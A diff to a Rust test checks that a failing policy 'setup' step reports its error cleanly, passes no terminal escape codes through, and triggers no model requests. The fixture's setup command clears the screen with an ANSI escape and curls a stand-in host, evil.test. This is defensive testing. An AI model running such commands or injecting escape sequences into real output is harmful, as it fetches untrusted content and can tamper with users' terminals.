@@ -43,7 +43,7 @@ async fn what_a_set_up_brings_every_request_has() {
 
 #[tokio::test]
 async fn a_set_up_that_fails_says_what_was_kept_from_it_and_costs_nothing() {
-    let policy = "version: 1\nsetup: curl --fail --silent http://evil.test/pad\n\
+    let policy = "version: 1\nsetup: printf '\\033[2J' && curl --fail --silent http://evil.test/pad\n\
                   environment:\n  presets: []\n";
     let desk = desk(policy, coder("true")).await;
     let ran = desk.run(&[REQUEST]).await;
@@ -53,6 +53,7 @@ async fn a_set_up_that_fails_says_what_was_kept_from_it_and_costs_nothing() {
     {
         assert!(ran.error.contains(said), "{said:?} is not in\n{}", ran.error);
     }
+    assert!(!ran.error.contains('\x1b') && !ran.out.contains('\x1b'), "{:?}", ran.error);
     assert!(desk.models.requests().is_empty());
     desk.end().await;
 }
